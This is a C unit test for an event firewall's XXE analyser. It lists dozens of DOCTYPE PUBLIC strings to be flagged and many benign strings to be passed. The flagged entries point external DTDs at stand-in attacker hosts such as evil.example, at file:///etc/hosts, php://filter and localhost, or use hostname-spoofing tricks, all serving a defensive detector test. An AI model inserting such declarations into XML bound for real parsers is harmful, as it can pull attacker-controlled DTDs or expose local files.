/* eventwall - the event firewall
 * Copyright (c) 2026 the eventwall authors
 * SPDX-License-Identifier: Apache-2.0 */

/* The analyser xxe: public document types, and who publishes them. */

#include "analysed.h"
#include "nasty.h"

static const char *const found[] = {
	"<!DOCTYPE a PUBLIC \"-//A//B//EN\" \"http://evil.example/x.dtd\"><a/>",
	"<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://evil.example/x.dtd\">",
	"<!doctype a public 'b' 'https://evil.example'>",
	"<!DOCTYPE\ta\nPUBLIC\n\"b\"\n\"http://203.0.113.9/x\">",
	"<?xml version=\"1.0\"?><!DOCTYPE a PUBLIC \"b\" \"http://evil.example:8080/x.dtd\"><a/>",
	"<!DOCTYPE a PUBLIC \"b\" \"http://www.w3.org.evil.example/x.dtd\">",
	"<!DOCTYPE a PUBLIC \"b\" \"http://notw3.org/x.dtd\">",
	"<!DOCTYPE a PUBLIC \"b\" \"http://www.w3.org@evil.example/x.dtd\">",
	"<!DOCTYPE a PUBLIC \"b\" \"http://www.w3.org:8080/x.dtd\">",
	"<!DOCTYPE a PUBLIC \"b\" \"http://[::1]/x.dtd\">",
	"<!DOCTYPE a PUBLIC \"b\" \"http://localhost/x.dtd\">",
	"<!DOCTYPE a PUBLIC \"b\" \"//evil.example/x.dtd\">",
	"<!DOCTYPE a PUBLIC \"b\" \"file:///etc/hosts\">",
	"<!DOCTYPE a PUBLIC \"b\" \"ftp://evil.example/x\">",
	"<!DOCTYPE a PUBLIC \"b\" \"jar:http://evil.example/x!/y\">",
	"<!DOCTYPE a PUBLIC \"b\" \"php://filter/x\">",
	"<!DOCTYPE a PUBLIC \"b\" \"/etc/hosts\">",
	"<!DOCTYPE a PUBLIC \"b\" \"../../x\">",
	"<!DOCTYPE a PUBLIC \"\" \"http://evil.example/\">",
	"<!DOCTYPE a PUBLIC \"b\" \"http://evil.example/x\"[<!ELEMENT a ANY>]>",
	"<!DOCTYPE a:b PUBLIC \"c\" \" http://evil.example/x\">",
	"<a><!DOCTYPE a PUBLIC 'http://www.w3.org/x' \"http://evil.example/x\">",
	"text before <!DOCTYPE a PUBLIC \"b\" \"http://evil.example/x\">",
	"<!DOCTYPE html><!DOCTYPE a PUBLIC \"b\" \"http://evil.example/x\">",
	"<!DOCTYPE a PUBLIC\"b\"\"http://evil.example/x\">",
	"<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" "
	"\"http://apple.com.evil.example/x.dtd\">",
	"<!DOCTYPE a PUBLIC \"b\" \"http://\">",
	"<!DOCTYPE a PUBLIC \"b\" \"HTTP://EVIL.EXAMPLE/X.DTD\">",
	"<!DOCTYPE a PUBLIC \"b\" \"https://evil.example?x\">",
	"<!DOCTYPE a PUBLIC \"b\" \"netdoc:/etc/hosts\">",
	NULL,
};

static const char *const benign[] = {
	"",
	"<",
	"<!DOCTYPE",
	"<!DOCTYPE html>",
	"<!doctype html>",
	"<!DOCTYPE html PUBLIC>",
	"<!DOCTYPE html PUBLIC \"-//W3C//DTD HTML 4.01//EN\">",
	"<!DOCTYPE html PUBLIC \"-//W3C//DTD HTML 4.01 Transitional//EN\" "
	"\"http://www.w3.org/TR/html4/loose.dtd\">",
	"<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" "
	"\"https://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
	"<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" "
	"\"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">",
	"<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" "
	"\"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">",
	"<!DOCTYPE plist PUBLIC \"-//Apple Computer//DTD PLIST 1.0//EN\" "
	"\"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist/>",
	"<!DOCTYPE web-app PUBLIC \"-//Sun Microsystems, Inc.//DTD Web Application 2.3//EN\" "
	"\"http://java.sun.com/dtd/web-app_2_3.dtd\">",
	"<!DOCTYPE struts PUBLIC \"-//Apache Software Foundation//DTD Struts Configuration "
	"2.5//EN\" \"http://struts.apache.org/dtds/struts-2.5.dtd\">",
	"<!DOCTYPE mapper PUBLIC \"-//mybatis.org//DTD Mapper 3.0//EN\" "
	"\"http://mybatis.org/dtd/mybatis-3-mapper.dtd\">",
	"<!DOCTYPE hibernate-mapping PUBLIC \"-//Hibernate/Hibernate Mapping DTD 3.0//EN\" "
	"\"http://www.hibernate.org/dtd/hibernate-mapping-3.0.dtd\">",
	"<!DOCTYPE hibernate-mapping PUBLIC \"-//Hibernate/Hibernate Mapping DTD 3.0//EN\" "
	"\"http://hibernate.sourceforge.net/hibernate-mapping-3.0.dtd\">",
	"<!DOCTYPE beans PUBLIC \"-//SPRING//DTD BEAN//EN\" "
	"\"http://www.springframework.org/dtd/spring-beans.dtd\">",
	"<!DOCTYPE module PUBLIC \"-//Checkstyle//DTD Checkstyle Configuration 1.3//EN\" "
	"\"https://checkstyle.org/dtds/configuration_1_3.dtd\">",
	"<!DOCTYPE module PUBLIC \"-//Puppy Crawl//DTD Check Configuration 1.3//EN\" "
	"\"http://www.puppycrawl.com/dtds/configuration_1_3.dtd\">",
	"<!DOCTYPE book PUBLIC \"-//OASIS//DTD DocBook XML V4.5//EN\" "
	"\"http://www.oasis-open.org/docbook/xml/4.5/docbookx.dtd\">",
	"<!DOCTYPE paymentService PUBLIC \"-//WorldPay//DTD WorldPay PaymentService v1//EN\" "
	"\"http://dtd.worldpay.com/paymentService_v1.dtd\">",
	"<!DOCTYPE ncx PUBLIC \"-//NISO//DTD ncx 2005-1//EN\" "
	"\"http://www.daisy.org/z3986/2005/ncx-2005-1.dtd\">",
	"<!DOCTYPE rss PUBLIC \"-//Netscape Communications//DTD RSS 0.91//EN\" "
	"\"http://my.netscape.com/publish/formats/rss-0.91.dtd\">",
	"<!DOCTYPE score-partwise PUBLIC \"-//Recordare//DTD MusicXML 3.1 Partwise//EN\" "
	"\"http://www.musicxml.org/dtds/partwise.dtd\">",
	"<!DOCTYPE article PUBLIC \"-//NLM//DTD JATS (Z39.96) v1.2//EN\" "
	"\"https://jats.nlm.nih.gov/publishing/1.2/JATS-journalpublishing1.dtd\">",
	"<!DOCTYPE faces-config PUBLIC \"-//Sun//DTD JavaServer Faces Config 1.1//EN\" "
	"\"http://java.sun.com/dtd/web-facesconfig_1_1.dtd\">",
	"<!DOCTYPE busconfig PUBLIC \"-//freedesktop//DTD D-BUS Bus Configuration 1.0//EN\" "
	"\"http://www.freedesktop.org/standards/dbus/1.0/busconfig.dtd\">",
	"<!DOCTYPE Configure PUBLIC \"-//Jetty//Configure//EN\" "
	"\"http://www.eclipse.org/jetty/configure_9_3.dtd\">",
	"<!DOCTYPE topic PUBLIC \"-//OASIS//DTD DITA Topic//EN\" \"topic.dtd\">",
	"<!DOCTYPE a PUBLIC \"b\" \"dtd/a.dtd\">",
	"<!DOCTYPE a PUBLIC \"b\" \"\">",
	"<!DOCTYPE wml PUBLIC \"-//WAPFORUM//DTD WML 1.1//EN\" "
	"\"http://www.wapforum.org/DTD/wml_1.1.xml\">",
	"<!DOCTYPE validators PUBLIC \"-//OpenSymphony Group//XWork Validator 1.0//EN\" "
	"\"http://www.opensymphony.com/xwork/xwork-validator-1.0.dtd\">",
	"<!DOCTYPE log4j:configuration PUBLIC \"-//APACHE//DTD LOG4J 1.2//EN\" "
	"\"http://logging.apache.org/log4j/1.2/apidocs/org/apache/log4j/xml/doc-files/log4j.d"
	"td\">",
	"<!DOCTYPE suppressions PUBLIC \"-//Checkstyle//DTD SuppressionFilter 1.2//EN\" "
	"\"https://checkstyle.org/dtds/suppressions_1_2.dtd\">",
	"<!DOCTYPE a PUBLIC b \"http://evil.example/x\">",
	"<!DOCTYPE a PUBLIC \"b",
	"<!DOCTYPE a PUBLIC \"b\" \"http://evil.example/x",
	"<!DOCTYPE a [",
	"<!DOCTYPE a SYSTEM \"http://evil.example/x\">",
	"<!DOCTYPES a PUBLIC \"b\" \"http://evil.example/x\">",
	"doctype a public \"b\" \"http://evil.example/x\"",
	"the DOCTYPE is PUBLIC and leads to http://www.w3.org/",
	"a public \"identifier\" \"http://example.com/\"",
	"<a href=\"http://example.com/\">public</a>",
	"<!-- DOCTYPE a PUBLIC -->",
	"<!ELEMENT a ANY>",
	"if (a < b && c > d)",
	"select * from a where b < 1",
	"{\"a\": \"<!DOCTYPE html>\"}",
	"a <!DOCTYPE html> is all that HTML5 needs",
	"<html xmlns=\"http://www.w3.org/1999/xhtml\">",
	"<?xml version=\"1.0\" encoding=\"UTF-8\"?><a/>",
	"<project xmlns=\"http://maven.apache.org/POM/4.0.0\" "
	"xsi:schemaLocation=\"http://maven.apache.org/POM/4.0.0 "
	"https://maven.apache.org/xsd/maven-4.0.0.xsd\">",
	"<a xsi:noNamespaceSchemaLocation=\"https://schemas.example.com/a.xsd\"/>",
	"<!DOCTYPE html PUBLIC \"-//IETF//DTD HTML 2.0//EN\">",
	"<!DOCTYPE html SYSTEM \"about:legacy-compat\">",
	"O'Brien <ob@example.com>",
	"1 < 2",
	"<3",
	"<<<<<<< HEAD",
	"a public identifier",
	"Public \"Notice\" \"http://example.com\"",
	"<! DOCTYPE a PUBLIC \"b\" \"http://evil.example/x\">",
	"http://example.com/?x=<y>",
	"public static void main(String[] args)",
	"#include <public.h>",
	"std::vector<std::string> public_names;",
	"<public>\"b\" \"http://example.com/\"</public>",
	"<!doctype html><title>a</title>",
	"<!DOCTYPE html PUBLIC \"\" \"\">",
	NULL,
};

int main(void)
{
	static const char *const pieces[] = {
		"<!doctype a public \"", "<!doctype ", "<!doctype a public \"b\" \""
	};
	struct analysed t = analysed_begin(&ew_analyser_xxe);

	analysed_all(&t, found, true);
	analysed_all(&t, benign, false);
	nasty_all(&t);
	for (size_t i = 0; i < sizeof(pieces) / sizeof(*pieces); i++)
		nasty_repeat(&ew_analyser_xxe, "", pieces[i]);
	analysed_end(&t);
	return done();
}
